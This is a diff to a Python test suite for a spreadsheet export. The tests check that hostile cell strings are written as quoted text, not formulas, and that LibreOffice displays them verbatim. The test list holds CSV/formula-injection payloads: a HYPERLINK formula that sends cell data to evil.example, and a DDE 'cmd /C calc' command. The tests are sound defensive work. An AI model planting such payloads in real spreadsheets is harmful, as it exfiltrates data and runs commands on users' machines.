@@ -21,7 +21,6 @@ HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
 ]
-SHOWN = [text.replace("\r", "\n") for text in HOSTILE]  # XML reads a carriage return in text as a line feed
 COLUMNS = [Column("Unit", 20), Column("Score", 8, "number"), Column("Answers", 8, "integer"), Column("Comment", 40)]
 
 
@@ -35,7 +34,7 @@ def _book(tmp_path: Path, rows, **sheet) -> Path:
 def test_hostile_text_is_written_as_text_never_as_a_formula(tmp_path):
     path = _book(tmp_path, [(f"Unit {i}", 50.0, 5, text) for i, text in enumerate(HOSTILE)])
     cells = [row[3] for row in load_workbook(path).active.iter_rows(min_row=2)]
-    assert [cell.value for cell in cells] == SHOWN
+    assert [cell.value for cell in cells] == HOSTILE
     assert {cell.data_type for cell in cells} == {"s"}
     assert all(cell.quotePrefix for cell in cells)
 
@@ -44,7 +43,7 @@ def test_libreoffice_shows_hostile_text_verbatim_and_numbers_as_numbers(tmp_path
     rows = [(f"Unit {i}", 50.5 + i, 5 + i, text) for i, text in enumerate(HOSTILE)]
     (sheet,) = sheets_as_csv(_book(tmp_path, rows)).values()
     assert sheet[0] == ["Unit", "Score", "Answers", "Comment"]
-    assert [row[3] for row in sheet[1:]] == SHOWN  # "=1+1" is not 2, "@SUM" is not a sum
+    assert [row[3] for row in sheet[1:]] == HOSTILE  # "=1+1" is not 2, "@SUM" is not a sum
     assert [row[1] for row in sheet[1:3]] == ["50.5", "51.5"] and sheet[2][2] == "6"
 
 
